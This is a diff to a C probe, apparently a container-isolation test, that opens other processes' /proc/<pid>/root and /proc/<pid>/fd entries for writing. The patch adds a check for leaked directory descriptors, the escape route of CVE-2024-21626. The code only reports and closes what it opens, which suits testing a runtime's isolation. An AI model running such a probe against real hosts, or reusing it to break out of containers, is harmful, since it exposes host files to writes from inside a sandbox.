@@ -15,7 +15,8 @@
  *     if not (a sealed memfd opens, but refuses writes);
  *   - opens /proc/<pid>/root/HOST_PATH O_WRONLY ("OPEN-ROOT pid path" on success): a
  *     process whose root is still the host's would hand over host files;
- *   - opens every /proc/<pid>/fd/N O_WRONLY ("OPEN-FD pid n target" on success).
+ *   - opens every /proc/<pid>/fd/N O_WRONLY ("OPEN-FD pid n target" on success), and as a
+ *     directory ("OPEN-DIR pid n target": a runtime's directory fd leads out of the root).
  * At the end it prints "DONE rounds=R seen=S".
  */
 #define _GNU_SOURCE
@@ -138,6 +139,12 @@ static void attack(int pid, int nhost, char **host)
         fd = open(fdpath, O_WRONLY | O_APPEND | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
         if (fd >= 0) {
             say("OPEN-FD %d %s %s", pid, e->d_name, target);
+            close(fd);
+        }
+        /* a directory fd is a way out too (openat(fd, "../..")): CVE-2024-21626 */
+        fd = open(fdpath, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+        if (fd >= 0) {
+            say("OPEN-DIR %d %s %s", pid, e->d_name, target);
             close(fd);
         }
     }
